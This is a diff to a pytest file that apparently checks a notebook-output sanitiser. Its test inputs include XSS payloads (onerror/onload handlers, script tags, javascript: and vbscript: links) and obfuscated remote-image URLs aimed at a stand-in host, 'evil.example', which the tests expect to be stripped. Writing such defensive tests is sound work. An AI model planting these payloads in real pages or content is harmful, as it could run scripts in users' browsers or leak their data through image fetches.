@@ -40,7 +40,8 @@ def test_only_inert_types_pass_and_html_and_markdown_are_sanitised(msg_type):
     data = {"text/plain": "x",
             "text/html": '<img src="x" onerror="alert(1)"><script>alert(2)</script><iframe src="/"></iframe>'
                          '<form action="/"><input></form><object data="x"></object><a href="JaVaScRiPt:alert(3)">a</a>'
-                         '<a href="data:text/html,x">d</a><a href="vbscript:x">v</a><a href="https://ok.example/">ok</a>'
+                         '<a href="data:text/html,x">d</a><a href="vbscript:x">v</a>'
+                         '<a href="https://ok.example/">ok</a>'
                          '<b style="color:red" onclick="x">bold</b>',
             "text/markdown": "# title\n> quoted <img src=x onerror=alert(1)>",
             "image/svg+xml": '<svg onload="alert(1)"/>', "TEXT/JavaScript": "alert(1)", "Application/PDF": "JVBE",
@@ -81,7 +82,23 @@ def test_a_pandas_table_keeps_its_table():
 def test_markdown_naming_a_script_url_is_dropped(text):
     m = check_box_message(message(content={"data": {"text/plain": "x", "text/markdown": text}, "metadata": {}}))
     assert m.content["data"] == {"text/plain": "x"}
-    assert m.dropped == ["display_data.data:text/markdown (names a script URL)"]
+    assert m.dropped == ["display_data.data:text/markdown (a script URL or a remote image)"]
+
+
+@pytest.mark.parametrize("html", ['<img src="https://evil.example/?d=1">', '<img src="//evil.example/x">',
+                                  '<img src="ht\ttps://evil.example/">', '<img src="&#104;ttps://evil.example/">'])
+def test_an_image_the_browser_would_fetch_from_elsewhere_loses_its_url(html):
+    m = check_box_message(message(content={"data": {"text/html": html + "<b>t</b>"}, "metadata": {}}))
+    assert m.content["data"] == {"text/html": "<img><b>t</b>"}
+    local = check_box_message(message(content={"data": {"text/html": '<img src="plot.png">'}, "metadata": {}}))
+    assert local.content["data"] == {"text/html": '<img src="plot.png">'}
+
+
+@pytest.mark.parametrize("text", ["![x](https://evil.example/?d=1)", "![x][r]\n\n[r]: //evil.example/x"])
+def test_markdown_that_may_load_a_remote_image_is_dropped(text):
+    m = check_box_message(message(content={"data": {"text/markdown": text}, "metadata": {}}))
+    assert m.content["data"] == {}
+    assert m.dropped == ["display_data.data:text/markdown (a script URL or a remote image)"]
 
 
 def test_prose_that_mentions_data_keeps_its_markdown():
@@ -116,7 +133,8 @@ def test_widget_state_from_the_box_is_sanitised_by_what_the_widget_renders():
     assert plain.content["data"]["state"]["value"] == "<script>x</script>" and not plain.dropped
     output = check_box_message(widget_open("o", {"_model_name": "OutputModel", "outputs": [
         {"output_type": "display_data", "data": {"text/html": "<script>x</script>ok", "application/javascript": "y"},
-         "metadata": {}}, {"output_type": "stream", "name": "stdout", "text": "<b>"}, {"output_type": "weird"}]}))
+         "metadata": {}}, {"output_type": "stream", "name": "stdout", "text": "<b>", "data": {"text/html": "<i>"}},
+        {"output_type": "weird"}]}))
     assert output.content["data"]["state"]["outputs"] == [
         {"output_type": "display_data", "data": {"text/html": "ok"}, "metadata": {}},
         {"output_type": "stream", "name": "stdout", "text": "<b>"}]
